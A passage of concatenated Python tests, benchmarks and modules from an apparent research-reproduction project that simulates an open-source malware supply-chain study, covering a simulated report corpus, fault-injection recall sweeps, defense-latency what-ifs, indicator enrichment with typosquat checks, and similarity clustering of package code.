    assert len(domains) == len(set(domains))


@pytest.fixture(scope="module")
def corpus(request):
    small_corpus = request.getfixturevalue("small_corpus")
    outcome = AttributionEngine(seed=2).attribute(small_corpus)
    return ReportFactory(seed=3).build(outcome), outcome


def test_primary_reports_come_from_website_sources(corpus):
    report_corpus, _outcome = corpus
    for report in report_corpus.reports:
        if report.source == "echo":
            continue
        assert SOURCE_INDEX[report.source].kind != SourceKind.DATASET


def test_reports_have_valid_urls_and_days(corpus):
    report_corpus, _ = corpus
    for report in report_corpus.reports:
        assert report.url.startswith("https://")
        assert report.website in report.url
        assert report.publish_day >= 0
        assert report.packages


def test_reports_sorted_by_publish_day(corpus):
    report_corpus, _ = corpus
    days = [r.publish_day for r in report_corpus.reports]
    assert days == sorted(days)


def test_echo_reports_reference_their_primary(corpus):
    report_corpus, _ = corpus
    by_id = {r.id: r for r in report_corpus.reports}
    echoes = [r for r in report_corpus.reports if r.source == "echo"]
    assert echoes, "echo coverage exists"
    for echo in echoes:
        primary = by_id[echo.echo_of]
        assert primary.source != "echo"
        assert set(echo.packages) <= set(primary.packages)
        assert echo.publish_day > primary.publish_day
        assert echo.category in ("Technical Community", "News", "Other", "Individual")


def test_primary_report_packages_come_from_one_campaign(corpus):
    report_corpus, outcome = corpus
    campaign_of = {e.package: e.campaign_id for e in outcome.entries}
    for report in report_corpus.reports:
        if report.source == "echo":
            continue
        campaigns = {campaign_of[p] for p in report.packages}
        assert len(campaigns) == 1
        assert campaigns == {report.campaign_id}


def test_alias_stable_per_actor(corpus):
    report_corpus, _ = corpus
    seen = {}
    for report in report_corpus.reports:
        if not report.campaign_id or not report.actor_alias:
            continue
        prior = seen.setdefault(report.campaign_id, report.actor_alias)
        assert prior == report.actor_alias


def test_by_category_partitions_reports(corpus):
    report_corpus, _ = corpus
    grouped = report_corpus.by_category()
    assert set(grouped) >= set(CATEGORIES)
    assert sum(len(v) for v in grouped.values()) == len(report_corpus.reports)


def test_world_report_mix_matches_table3_shape(paper):
    """Table III: Technical Community + Commercial carry ~3/4 of reports."""
    inventory = paper.table3_reports()
    by_cat = {r.category: r for r in inventory.rows}
    heavy = by_cat["Technical Community"].reports + by_cat["Commercial org."].reports
    assert heavy / inventory.total_reports > 0.6
    assert inventory.total_websites <= 68
