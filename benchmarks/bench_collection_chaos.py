"""Chaos sweep: dataset recall vs fault rate x retry budget.

Runs the Section II collection against one small world under escalating
fault plans and two retry budgets, measuring *recall* — the fraction of
the fault-free dataset's entries a degraded run still collects — plus
how much of the injected chaos the retry machinery absorbed. Also times
the resilient pipeline against the plain one to show the bookkeeping is
not the bottleneck.

Run with::

    pytest benchmarks/bench_collection_chaos.py --benchmark-only
"""

from __future__ import annotations

import pytest

from repro.reliability import FaultPlan, RetryPolicy
from repro.world import WorldConfig, build_world, collect, run_collection

SMALL = WorldConfig(seed=11, scale=0.15)

#: Swept fetch-failure rates; the other rates scale proportionally.
FAULT_RATES = (0.1, 0.3, 0.5)
RETRY_BUDGETS = (1, 4)
PLAN_SEED = 23


def scaled_plan(rate: float) -> FaultPlan:
    """A fault plan whose pressure scales off the fetch-failure rate."""
    return FaultPlan(
        seed=PLAN_SEED,
        fetch_unreachable_rate=rate,
        fetch_timeout_rate=rate * 0.2,
        fetch_truncate_rate=rate * 0.3,
        site_outage_rate=rate * 0.4,
        mirror_down_rate=rate * 0.6,
        feed_outage_rate=rate * 0.6,
        feed_truncate_rate=rate * 0.4,
    )


@pytest.fixture(scope="module")
def small_world():
    return build_world(SMALL)


@pytest.fixture(scope="module")
def baseline_keys(small_world):
    """The fault-free run's entry identities (the recall denominator)."""
    return {e.package for e in collect(small_world).dataset.entries}


def recall(result, baseline_keys) -> float:
    kept = {e.package for e in result.dataset.entries}
    return len(kept & baseline_keys) / len(baseline_keys)


@pytest.mark.parametrize("rate", FAULT_RATES)
@pytest.mark.parametrize("budget", RETRY_BUDGETS)
def test_chaos_recall(small_world, baseline_keys, rate, budget, capsys):
    """One cell of the recall-vs-fault-rate x retry-budget sweep."""
    result = run_collection(
        small_world,
        plan=scaled_plan(rate),
        policy=RetryPolicy().with_max_retries(budget),
    )
    report = result.stats.degradation
    cell_recall = recall(result, baseline_keys)
    injected = sum(report.faults_injected.values())
    with capsys.disabled():
        print(
            f"\n[chaos] rate={rate:.1f} retries={budget}: "
            f"recall={cell_recall:.3f} degraded={result.stats.degraded} "
            f"faults={injected} recovered={report.errors_recovered} "
            f"fatal={report.errors_fatal}"
        )
    # Exact accounting: every injected fault was observed exactly once.
    assert injected == report.errors_recovered + report.errors_fatal
    assert 0.0 < cell_recall <= 1.0
    # More retries can only help at the same fault pressure.
    if budget == max(RETRY_BUDGETS):
        assert cell_recall >= 0.5


def test_recall_monotone_in_retry_budget(small_world, baseline_keys):
    """At fixed fault pressure a bigger retry budget never loses recall."""
    rate = FAULT_RATES[-1]
    recalls = [
        recall(
            run_collection(
                small_world,
                plan=scaled_plan(rate),
                policy=RetryPolicy().with_max_retries(budget),
            ),
            baseline_keys,
        )
        for budget in RETRY_BUDGETS
    ]
    assert recalls == sorted(recalls), recalls


def test_bench_resilient_pipeline_overhead(benchmark, small_world):
    """Time one resilient run under moderate chaos (bookkeeping + retries
    included); compare against ``test_stage_collection`` in
    ``bench_pipeline_stages.py`` for the fault-free baseline."""
    result = benchmark(
        run_collection, small_world, plan=FaultPlan.moderate(seed=PLAN_SEED)
    )
    assert result.dataset.entries
