"""End-to-end pipeline stage timings (not a paper table).

Times the three expensive stages behind every experiment — world
simulation, the Section II collection pipeline, and the MALGRAPH build —
on a reduced-scale world so the benchmark suite stays fast. The default
full-scale stages are exercised (already warmed) by the per-table
benches.
"""

from __future__ import annotations

import pytest

from repro.core.malgraph import MalGraph
from repro.world import WorldConfig, build_world, collect

SMALL = WorldConfig(seed=11, scale=0.25)


@pytest.fixture(scope="module")
def small_world():
    return build_world(SMALL)


@pytest.fixture(scope="module")
def small_dataset(small_world):
    return collect(small_world).dataset


def test_stage_world_build(benchmark):
    world = benchmark(build_world, SMALL)
    assert world.corpus.campaigns


def test_stage_collection(benchmark, small_world):
    result = benchmark(collect, small_world)
    assert result.dataset.entries


def test_stage_malgraph_build(benchmark, small_dataset):
    graph = benchmark(MalGraph.build, small_dataset)
    assert graph.graph.nodes()
