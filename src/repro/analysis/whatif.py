"""What-if: defense response time vs attacker yield.

The paper's RQ4 insight — "the impact of OSS malware is limited by a
small download number [because] the registry manager quickly removes
malicious packages" — implies a counterfactual: slower defenders would
hand attackers more downloads. The simulator can run that experiment.

:func:`compute_defense_sweep` rebuilds the ground-truth corpus under
different ``detection_latency_scale`` values (same seed, same campaign
population, only the defenders' speed changes) and measures attacker
yield: total organic downloads of malicious releases, the detected
fraction, and the median persistence window.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import List, Optional, Sequence

import numpy as np

from repro.analysis.render import render_table
from repro.malware.corpus import CorpusConfig, build_corpus


@dataclass
class DefenseScenario:
    """Outcome of one latency-scale run."""

    latency_scale: float
    releases: int
    detected_fraction: float
    median_persist_days: float
    total_downloads: int


@dataclass
class DefenseSweep:
    """All scenarios of one sweep, ordered by latency scale."""

    scenarios: List[DefenseScenario]

    def scenario(self, latency_scale: float) -> Optional[DefenseScenario]:
        for scenario in self.scenarios:
            if scenario.latency_scale == latency_scale:
                return scenario
        return None

    def render(self) -> str:
        rows = [
            [
                f"{s.latency_scale:g}x",
                s.releases,
                f"{s.detected_fraction:.1%}",
                f"{s.median_persist_days:g}",
                f"{s.total_downloads:,}",
            ]
            for s in self.scenarios
        ]
        return render_table(
            [
                "defender latency",
                "releases",
                "detected",
                "median persist (d)",
                "malicious downloads",
            ],
            rows,
            title="What-if: defense response time vs attacker yield",
        )


def measure_scenario(config: CorpusConfig) -> DefenseScenario:
    """Build one corpus and measure attacker yield from ground truth."""
    corpus = build_corpus(config)
    persists = []
    detected = 0
    downloads = 0
    releases = 0
    for _campaign, release in corpus.releases():
        releases += 1
        downloads += release.downloads
        if release.detection_day is not None:
            detected += 1
        if release.persist_days is not None:
            persists.append(release.persist_days)
    return DefenseScenario(
        latency_scale=config.detection_latency_scale,
        releases=releases,
        detected_fraction=detected / releases if releases else 0.0,
        median_persist_days=float(np.median(persists)) if persists else 0.0,
        total_downloads=downloads,
    )


def compute_defense_sweep(
    scales: Sequence[float] = (0.25, 0.5, 1.0, 2.0, 4.0),
    seed: int = 7,
    corpus_scale: float = 0.25,
    horizon: Optional[int] = None,
) -> DefenseSweep:
    """Sweep defender speed over the same campaign population."""
    scenarios = []
    for latency_scale in sorted(scales):
        config = CorpusConfig(
            seed=seed,
            scale=corpus_scale,
            detection_latency_scale=latency_scale,
        )
        if horizon is not None:
            config.horizon = horizon
        scenarios.append(measure_scenario(config))
    return DefenseSweep(scenarios=scenarios)
