"""Table IV — the overlapping matrix of all sources.

Regenerates the 10x10 duplicated-package overlap matrix. Paper shape:
academic sources overlap heavily with each other and with industry
(they re-use industry detections), while industry-industry overlap is
comparatively small — every vendor claims first detection.
"""

from __future__ import annotations


def test_table4_overlap(benchmark, artifacts, show):
    matrix = benchmark(artifacts.table4_overlap)
    show("Table IV: the overlapping matrix of all sources", matrix.render())

    assert len(matrix.sources) == 10
    # Symmetry of the overlap relation.
    for a in matrix.sources:
        for b in matrix.sources:
            assert matrix.overlap(a, b) == matrix.overlap(b, a)
        assert matrix.overlap(a, a) == matrix.totals[a], (
            "the diagonal carries the source's own total"
        )

    blocks = matrix.sector_block_means()
    from repro.intel.sources import Sector
    aa = blocks[(Sector.ACADEMIA, Sector.ACADEMIA)]
    ii = blocks[(Sector.INDUSTRY, Sector.INDUSTRY)]
    assert aa > ii, "academia overlaps far more than industry (RQ1 insight)"
