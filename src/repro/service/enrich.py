"""Indicator enrichment: the service's core request/response shapes.

An :class:`Indicator` is whatever a client knows about a package — a
name, a name@version coordinate, a SHA256 signature, optionally pinned
to an ecosystem. The :class:`EnrichmentEngine` resolves it against the
:class:`~repro.service.index.IntelIndex` and answers with a structured
:class:`EnrichmentResult`:

* **malicious** — the indicator matches collected packages exactly (by
  signature, coordinate or name); families, campaigns, actors, related
  indicators and source provenance are aggregated over the matches;
* **suspicious** — no exact match, but the name typosquats a popular
  package (:class:`~repro.detection.typosquat.TyposquatIndex`) or sits
  within a small edit distance of a known malicious name;
* **unknown** — nothing links the indicator to the corpus.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Dict, List, Optional, Sequence, Tuple

from repro.collection.records import DatasetEntry
from repro.core.edges import node_id
from repro.detection.typosquat import TyposquatIndex
from repro.errors import ValidationError
from repro.service.index import IntelIndex

VERDICT_MALICIOUS = "malicious"
VERDICT_SUSPICIOUS = "suspicious"
VERDICT_UNKNOWN = "unknown"


@dataclass(frozen=True)
class Indicator:
    """One enrichment request: any subset of the fields may be set."""

    name: Optional[str] = None
    version: Optional[str] = None
    sha256: Optional[str] = None
    ecosystem: Optional[str] = None

    def key(self) -> Tuple[str, str, str, str]:
        """Normalised cache key (case-insensitive name and signature)."""
        return (
            (self.name or "").lower(),
            self.version or "",
            (self.sha256 or "").lower(),
            self.ecosystem or "",
        )

    @property
    def is_empty(self) -> bool:
        return not (self.name or self.sha256)

    @classmethod
    def from_dict(cls, raw: Dict) -> "Indicator":
        """Validated construction from an untrusted request payload.

        Raises :class:`~repro.errors.ValidationError` when ``raw`` is
        not a mapping or a provided field is not a string — an integer
        ``name`` would otherwise survive construction and crash in
        :meth:`key` mid-request. Numeric ``version`` values (a common
        client slip: JSON ``1.0`` for ``"1.0"``) are coerced to strings.
        """
        if not isinstance(raw, dict):
            raise ValidationError(
                f"indicator must be an object, got {type(raw).__name__}"
            )
        fields = {}
        for field_name in ("name", "version", "sha256", "ecosystem"):
            value = raw.get(field_name)
            if value is None:
                continue
            if (
                field_name == "version"
                and isinstance(value, (int, float))
                and not isinstance(value, bool)
            ):
                value = str(value)
            if not isinstance(value, str):
                raise ValidationError(
                    f"{field_name} must be a string, "
                    f"got {type(value).__name__}"
                )
            fields[field_name] = value
        return cls(**fields)

    def to_dict(self) -> Dict:
        return {
            "name": self.name,
            "version": self.version,
            "sha256": self.sha256,
            "ecosystem": self.ecosystem,
        }


@dataclass
class EnrichmentResult:
    """The service's answer for one indicator."""

    indicator: Indicator
    verdict: str
    matches: List[str] = field(default_factory=list)
    families: List[str] = field(default_factory=list)
    campaigns: List[str] = field(default_factory=list)
    actors: List[str] = field(default_factory=list)
    related: List[str] = field(default_factory=list)
    sources: List[Dict] = field(default_factory=list)
    first_seen_day: Optional[int] = None
    last_seen_day: Optional[int] = None
    squat: Optional[Dict] = None

    @property
    def confidence(self) -> float:
        """Best source reliability backing the verdict (0 if unsourced)."""
        return max((row["reliability"] for row in self.sources), default=0.0)

    def to_dict(self) -> Dict:
        return {
            "indicator": self.indicator.to_dict(),
            "verdict": self.verdict,
            "confidence": self.confidence,
            "matches": list(self.matches),
            "families": list(self.families),
            "campaigns": list(self.campaigns),
            "actors": list(self.actors),
            "related": list(self.related),
            "sources": [dict(row) for row in self.sources],
            "first_seen_day": self.first_seen_day,
            "last_seen_day": self.last_seen_day,
            "squat": dict(self.squat) if self.squat else None,
        }


def _seen_window(entries: Sequence[DatasetEntry]) -> Tuple[Optional[int], Optional[int]]:
    """(first, last) day any source or registry event saw the matches."""
    days: List[int] = []
    for entry in entries:
        if entry.release_day is not None:
            days.append(entry.release_day)
        days.extend(claim.report_day for claim in entry.claims)
        for day in (entry.detection_day, entry.removal_day):
            if day is not None:
                days.append(day)
    if not days:
        return None, None
    return min(days), max(days)


class EnrichmentEngine:
    """Resolves indicators against the index (no caching here)."""

    def __init__(
        self,
        index: IntelIndex,
        squat_index: Optional[TyposquatIndex] = None,
        near_distance: int = 2,
        related_limit: int = 25,
        source_health: Optional[Dict[str, Dict]] = None,
    ):
        self.index = index
        self.squat_index = squat_index or TyposquatIndex()
        self.near_distance = near_distance
        self.related_limit = related_limit
        #: per-source lifecycle health (connector key ->
        #: ``SourceHealth.to_dict()``) from the collection run that built
        #: the backing artifact. When set, every source row's
        #: reliability is scaled by the source's live health factor, so
        #: verdict confidence (= best row reliability) degrades with the
        #: sources backing it: a verdict only a dark feed still vouches
        #: for is worth a quarter of the same verdict from a healthy one.
        self.source_health = dict(source_health or {})

    def _source_rows(self, entries: Sequence[DatasetEntry]) -> List[Dict]:
        """Source provenance rows, health-weighted when health is known."""
        rows = self.index.source_profiles(entries)
        if not self.source_health:
            return rows
        weighted = []
        for row in rows:
            health = self.source_health.get(row["key"])
            if health is not None:
                row = dict(row)
                row["health"] = health.get("state", "healthy")
                row["reliability"] = round(
                    row["reliability"] * health.get("reliability_factor", 1.0),
                    4,
                )
            weighted.append(row)
        weighted.sort(key=lambda row: (-row["reliability"], row["key"]))
        return weighted

    # -- resolution --------------------------------------------------------
    def _match(self, indicator: Indicator) -> List[DatasetEntry]:
        """Exact matches, most specific indicator field first."""
        if indicator.sha256:
            entries = self.index.lookup_sha256(indicator.sha256)
            if entries:
                return entries
        if indicator.name and indicator.version:
            entries = self.index.lookup_name_version(
                indicator.name, indicator.version, indicator.ecosystem
            )
            if entries:
                return entries
        if indicator.name:
            return self.index.lookup_name(indicator.name, indicator.ecosystem)
        return []

    def _squat_verdict(self, indicator: Indicator) -> Optional[EnrichmentResult]:
        """Suspicious verdict for near-miss names, or None if clean."""
        name = indicator.name or ""
        near = self.index.near_names(
            name, indicator.ecosystem, max_distance=self.near_distance
        )
        if near:
            nearest, distance = near[0]
            entries = self.index.lookup_name(nearest, indicator.ecosystem)
            first, last = _seen_window(entries)
            return EnrichmentResult(
                indicator=indicator,
                verdict=VERDICT_SUSPICIOUS,
                related=sorted(node_id(e.package) for e in entries)[
                    : self.related_limit
                ],
                sources=self._source_rows(entries),
                first_seen_day=first,
                last_seen_day=last,
                squat={"target": nearest, "distance": distance, "kind": "near-known"},
            )
        ecosystems = (
            [indicator.ecosystem]
            if indicator.ecosystem
            else sorted(self.squat_index.popular)
        )
        for ecosystem in ecosystems:
            match = self.squat_index.check(ecosystem, name)
            if match is not None:
                return EnrichmentResult(
                    indicator=indicator,
                    verdict=VERDICT_SUSPICIOUS,
                    squat={
                        "target": match.target,
                        "distance": match.distance,
                        "kind": match.kind,
                    },
                )
        return None

    def enrich(self, indicator: Indicator) -> EnrichmentResult:
        """One indicator in, one structured verdict out."""
        entries = self._match(indicator)
        if entries:
            matches = sorted(node_id(e.package) for e in entries)
            families: List[str] = []
            campaigns: List[str] = []
            actors: List[str] = []
            related: List[str] = []
            for entry in entries:
                families.extend(self.index.families_of(entry.package))
                campaigns.extend(self.index.campaigns_of(entry.package))
                actors.extend(self.index.actors_of(entry.package))
                related.extend(self.index.related(entry.package, self.related_limit))
            first, last = _seen_window(entries)
            match_set = set(matches)
            return EnrichmentResult(
                indicator=indicator,
                verdict=VERDICT_MALICIOUS,
                matches=matches,
                families=sorted(set(families)),
                campaigns=sorted(set(campaigns)),
                actors=sorted(set(actors)),
                related=sorted(set(related) - match_set)[: self.related_limit],
                sources=self._source_rows(entries),
                first_seen_day=first,
                last_seen_day=last,
            )
        if indicator.name:
            squatted = self._squat_verdict(indicator)
            if squatted is not None:
                return squatted
        return EnrichmentResult(indicator=indicator, verdict=VERDICT_UNKNOWN)

    def lookup(
        self,
        name: Optional[str] = None,
        version: Optional[str] = None,
        sha256: Optional[str] = None,
        ecosystem: Optional[str] = None,
    ) -> EnrichmentResult:
        """Keyword convenience over :meth:`enrich`."""
        return self.enrich(
            Indicator(name=name, version=version, sha256=sha256, ecosystem=ecosystem)
        )
