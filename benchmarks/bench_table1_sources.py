"""Table I — source and size of collected malicious packages.

Regenerates the per-source (available, unavailable) inventory of the
collected dataset. Paper shape: most packages come from PyPI and NPM;
artifact-sharing sources (Maloss, Mal-PyPI, DataDog) contribute mostly
available packages while names-only industry feeds (Phylum, Socket,
Snyk.io) contribute mostly unavailable records.
"""

from __future__ import annotations


def test_table1_sources(benchmark, artifacts, show):
    inventory = benchmark(artifacts.table1_sources)
    show("Table I: source and size of collected malicious packages",
         inventory.render())

    rows = {row.source: row for row in inventory.rows}
    assert len(rows) == 10, "the paper lists ten online sources"
    # Artifact-sharing datasets are (almost) fully available.
    for source in ("mal-pypi", "datadog"):
        assert rows[source].unavailable == 0
    # Names-only feeds are dominated by unavailable records.
    for source in ("phylum", "socket", "snyk"):
        assert rows[source].unavailable > rows[source].available
    total_unavailable = sum(r.unavailable for r in inventory.rows)
    total_available = sum(r.available for r in inventory.rows)
    assert total_unavailable > total_available * 0.5, (
        "a large share of records has no artifact (paper: 14,422 vs 9,003)"
    )
