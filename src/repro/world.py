"""World assembly: corpus + registries + mirrors + intel + collection.

:func:`build_world` wires every substrate together and plays the
simulation forward day by day; :func:`collect` then runs the Section II
pipeline against the finished world. :func:`default_world` /
:func:`default_dataset` resolve the canonical world used by the
examples, tests and benchmarks through the shared
:mod:`repro.pipeline` artifact store — fully deterministic, so every
run of every bench regenerates identical tables, and identical
configurations share one artifact across every facade in the process.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Dict, List, Optional, Sequence, Tuple

from repro.collection.pipeline import (
    CollectionPipeline,
    CollectionResult,
    attach_ground_truth,
)
from repro.collection.records import MalwareDataset
from repro.ecosystem.clock import STUDY_HORIZON_DAYS, SimClock
from repro.ecosystem.mirror import MirrorNetwork, build_default_mirrors
from repro.ecosystem.package import ECOSYSTEMS
from repro.ecosystem.registry import RegistryHub
from repro.intel.reports import ReportCorpus, ReportFactory
from repro.intel.sns import Tweet, build_feed
from repro.intel.sources import AttributionEngine, AttributionOutcome
from repro.intel.web import SimulatedWeb, build_web
from repro.malware.corpus import Corpus, CorpusConfig, build_corpus


@dataclass(frozen=True)
class WorldConfig:
    """Top-level knobs; everything else derives deterministically."""

    seed: int = 7
    scale: float = 1.0
    horizon: int = STUDY_HORIZON_DAYS
    #: defense-response what-if: scales every detection latency
    detection_latency_scale: float = 1.0

    def corpus_config(self) -> CorpusConfig:
        return CorpusConfig(
            seed=self.seed,
            horizon=self.horizon,
            scale=self.scale,
            detection_latency_scale=self.detection_latency_scale,
        )


@dataclass
class World:
    """A fully simulated OSS supply-chain world."""

    config: WorldConfig
    corpus: Corpus
    registries: RegistryHub
    mirrors: MirrorNetwork
    outcome: AttributionOutcome
    reports: ReportCorpus
    web: SimulatedWeb
    feed: List[Tweet]

    @property
    def horizon(self) -> int:
        return self.config.horizon

    def tick_stream(self):
        """Cursor over the registries' lifecycle logs (see
        :class:`repro.core.delta.stream.RegistryTickStream`): each drain
        yields the packages the simulation touched since the last one,
        so incremental re-collections diff O(delta), not O(corpus)."""
        from repro.core.delta.stream import RegistryTickStream

        return RegistryTickStream(self.registries)


def _schedule_events(corpus: Corpus):
    """Build the per-day publish / detect / remove schedules."""
    publishes: Dict[int, list] = {}
    detects: Dict[int, list] = {}
    removes: Dict[int, list] = {}
    for benign in corpus.benign:
        publishes.setdefault(benign.release_day, []).append(
            (benign.artifact, False, 0)
        )
    for campaign, release in corpus.releases():
        publishes.setdefault(release.release_day, []).append(
            (release.artifact, True, release.downloads)
        )
        if release.detection_day is not None:
            detects.setdefault(release.detection_day, []).append(release.artifact.id)
        if release.removal_day is not None:
            removes.setdefault(release.removal_day, []).append(release.artifact.id)
    return publishes, detects, removes


def build_world(config: Optional[WorldConfig] = None) -> World:
    """Generate the corpus, run the registry/mirror simulation and the
    intel layer. Deterministic in ``config``."""
    config = config or WorldConfig()
    corpus = build_corpus(config.corpus_config())
    registries = RegistryHub(ECOSYSTEMS)
    mirrors = build_default_mirrors({eco: registries[eco] for eco in ECOSYSTEMS})

    publishes, detects, removes = _schedule_events(corpus)
    clock = SimClock(horizon=config.horizon)
    for day in range(config.horizon + 1):
        for artifact, malicious, downloads in publishes.get(day, ()):
            record = registries[artifact.ecosystem].publish(
                artifact, day, malicious=malicious
            )
            record.downloads = downloads
        for package in detects.get(day, ()):
            registries[package.ecosystem].mark_detected(
                package.name, package.version, day, by="scanner"
            )
        for package in removes.get(day, ()):
            registries[package.ecosystem].remove(package.name, package.version, day)
        mirrors.tick(day)
        if day < config.horizon:
            clock.advance(1)

    outcome = AttributionEngine(seed=config.seed + 3).attribute(corpus)
    report_corpus = ReportFactory(seed=config.seed + 5).build(outcome)
    web = build_web(report_corpus, outcome, seed=config.seed + 7)
    feed = build_feed(outcome, seed=config.seed + 9)
    return World(
        config=config,
        corpus=corpus,
        registries=registries,
        mirrors=mirrors,
        outcome=outcome,
        reports=report_corpus,
        web=web,
        feed=feed,
    )


def collect(world: World, with_ground_truth: bool = True) -> CollectionResult:
    """Run the Section II collection pipeline against a world."""
    pipeline = CollectionPipeline(
        world.registries, world.mirrors, profiles=world.outcome.profiles
    )
    result = pipeline.run(world.outcome, world.web, world.feed, world.reports)
    if with_ground_truth:
        attach_ground_truth(result.dataset, world.corpus)
    return result


def run_collection(
    world: World,
    plan=None,
    policy=None,
    with_ground_truth: bool = True,
) -> CollectionResult:
    """Run the collection pipeline, optionally under fault injection.

    ``plan`` is a :class:`repro.reliability.FaultPlan`; when given (and
    not null), the world's web, mirror fleet and open-dataset feeds are
    wrapped in faulty facades and the pipeline runs resiliently: faults
    are retried per ``policy`` (a :class:`repro.reliability.RetryPolicy`,
    default budget otherwise), what still fails is quarantined, and the
    result's :class:`CollectionStats` carries the
    :class:`~repro.reliability.DegradationReport`. With ``plan=None``
    this is exactly :func:`collect`.
    """
    if plan is None:
        return collect(world, with_ground_truth=with_ground_truth)
    from repro.reliability import (
        FaultyMirrorNetwork,
        FaultyWeb,
        ResilienceContext,
    )

    ctx = ResilienceContext(policy=policy, plan=plan)
    if ctx.injector is not None:
        web = FaultyWeb(world.web, ctx.injector, clock=ctx.clock)
        mirrors = FaultyMirrorNetwork(world.mirrors, ctx.injector)
    else:  # null plan: resilient bookkeeping over the pristine substrate
        web = world.web
        mirrors = world.mirrors
    pipeline = CollectionPipeline(
        world.registries,
        mirrors,
        profiles=world.outcome.profiles,
        resilience=ctx,
    )
    result = pipeline.run(world.outcome, web, world.feed, world.reports)
    if with_ground_truth:
        attach_ground_truth(result.dataset, world.corpus)
    return result


def _runtime(
    seed: int, scale: float, horizon: int, detection_latency_scale: float
):
    # Imported lazily: repro.pipeline imports this module for the stage
    # build functions.
    from repro.pipeline import PipelineRuntime

    return PipelineRuntime(
        WorldConfig(
            seed=seed,
            scale=scale,
            horizon=horizon,
            detection_latency_scale=detection_latency_scale,
        )
    )


def default_world(
    seed: int = 7,
    scale: float = 1.0,
    horizon: int = STUDY_HORIZON_DAYS,
    detection_latency_scale: float = 1.0,
) -> World:
    """The canonical deterministic world (shared via the artifact store)."""
    return _runtime(seed, scale, horizon, detection_latency_scale).world()


def default_collection(
    seed: int = 7,
    scale: float = 1.0,
    horizon: int = STUDY_HORIZON_DAYS,
    detection_latency_scale: float = 1.0,
) -> CollectionResult:
    """The canonical collection run against :func:`default_world`.

    Routed through the shared store, so an identical collection is never
    re-run — not per facade, not per key, and (with the disk tier) not
    even per process.
    """
    return _runtime(seed, scale, horizon, detection_latency_scale).collection()


def default_dataset(
    seed: int = 7,
    scale: float = 1.0,
    horizon: int = STUDY_HORIZON_DAYS,
    detection_latency_scale: float = 1.0,
) -> MalwareDataset:
    """The canonical collected dataset (shared via the artifact store)."""
    return default_collection(seed, scale, horizon, detection_latency_scale).dataset


def default_columnar(
    seed: int = 7,
    scale: float = 1.0,
    horizon: int = STUDY_HORIZON_DAYS,
    detection_latency_scale: float = 1.0,
) -> MalwareDataset:
    """The canonical dataset as a columnar corpus (DESIGN.md §12).

    A :class:`repro.core.columnar.ColumnarMalwareDataset`: drop-in for
    :func:`default_dataset` everywhere a ``MalwareDataset`` is accepted,
    with array-backed fast paths underneath. Resolves through the store
    like every stage — a warmed disk cache memory-maps straight in
    without re-running collection.
    """
    return _runtime(seed, scale, horizon, detection_latency_scale).columnar()
