"""Similar-edge pipeline: AST -> embedding -> K-Means -> groups.

Implements Section III-A's four-step recipe: (1) parse each package's
source into an AST, (2) embed it, (3) cluster embeddings with the
growing-k K-Means, (4) link packages that share a cluster.

The paper notes the clustering can produce false positives ("two packages
use similar codes but belong to two different groups") which they remove
by manual inspection; :attr:`SimilarityConfig.min_similarity` automates
that pass — each K-Means cluster is re-split into cosine-similarity
connected components, so loosely attached members drop off.

This stage dominates ``MalGraph.build`` wall time, so it is the one that
scales with the hardware: embedding fans out over ``jobs`` worker
processes (deduplicated by SHA256 first), vectors persist in the
:mod:`repro.pipeline` store's ``embeddings`` tier keyed by an
embedder-only fingerprint (a ``min_similarity``/``start_k`` sweep never
re-embeds), and every substage is timed into
:class:`SimilarityTimings` so the win is observable.
"""

from __future__ import annotations

import time
from dataclasses import dataclass, field
from typing import Any, Dict, List, Optional, Sequence, Tuple

import numpy as np

from repro.core.embedding import DEFAULT_DIM, AstEmbedder
from repro.core.kmeans import GrowthTrace, KMeansResult, grow_kmeans
from repro.ecosystem.package import PackageArtifact

#: Row-block size of the per-cluster similarity matmul: one block of the
#: cosine matrix is materialised at a time, so a single huge cluster
#: (the registering-flood case) cannot allocate O(m²) memory at once.
SIMILARITY_BLOCK_ROWS = 2048


@dataclass(frozen=True)
class SimilarityConfig:
    """Knobs of the similarity pipeline."""

    dim: int = DEFAULT_DIM
    start_k: int = 3  # the paper's initial cluster count
    seed: int = 0
    max_k: Optional[int] = None
    duplicate_eps: float = 0.05
    #: cosine threshold of the automated false-positive pass; set to None
    #: to reproduce the raw cluster-co-membership edges.
    min_similarity: Optional[float] = 0.90
    structural_weight: float = 0.15
    lexical_weight: float = 5.0
    #: embedding worker processes (0 = one per core). An execution knob,
    #: not a result knob: it is excluded from pipeline fingerprints
    #: because the output is byte-identical for any value.
    jobs: int = 1


@dataclass
class SimilarityTimings:
    """Per-substage wall time and embedding-cache accounting."""

    embed_seconds: float = 0.0
    cluster_seconds: float = 0.0
    split_seconds: float = 0.0
    artifacts: int = 0
    unique_artifacts: int = 0
    #: unique SHA256s served from the persistent embedding cache
    cache_hits: int = 0
    #: unique SHA256s that had to be embedded this run
    cache_misses: int = 0
    jobs: int = 1

    def to_dict(self) -> dict:
        return {
            "embed_seconds": self.embed_seconds,
            "cluster_seconds": self.cluster_seconds,
            "split_seconds": self.split_seconds,
            "artifacts": self.artifacts,
            "unique_artifacts": self.unique_artifacts,
            "cache_hits": self.cache_hits,
            "cache_misses": self.cache_misses,
            "jobs": self.jobs,
        }

    def rows(self) -> List[Tuple[str, float, Dict[str, Any]]]:
        """(substage, seconds, detail) rows for the pipeline report."""
        return [
            (
                "embed",
                self.embed_seconds,
                {
                    "artifacts": self.artifacts,
                    "unique": self.unique_artifacts,
                    "cache_hits": self.cache_hits,
                    "cache_misses": self.cache_misses,
                    "jobs": self.jobs,
                },
            ),
            ("cluster", self.cluster_seconds, {}),
            ("split", self.split_seconds, {}),
        ]


@dataclass
class SimilarityResult:
    """Cluster assignment over the embedded artifacts."""

    groups: List[List[int]]  # member indices per final group (size >= 2)
    labels: np.ndarray  # final group id per artifact (-1 = ungrouped)
    kmeans_k: int
    trace: List[GrowthTrace] = field(default_factory=list)
    timings: Optional[SimilarityTimings] = None

    @property
    def group_count(self) -> int:
        return len(self.groups)


def cluster_artifacts(
    artifacts: Sequence[PackageArtifact],
    config: Optional[SimilarityConfig] = None,
    store=None,
) -> SimilarityResult:
    """Run the full similarity pipeline over a batch of artifacts.

    ``store`` (a :class:`repro.pipeline.store.ArtifactStore`) enables the
    persistent embedding cache: vectors for already-seen artifact
    SHA256s are loaded instead of recomputed, and freshly computed ones
    are written back, keyed by the embedder-only fingerprint — so any
    config change outside ``(dim, structural_weight, lexical_weight)``
    re-clusters without re-embedding.
    """
    config = config if config is not None else SimilarityConfig()
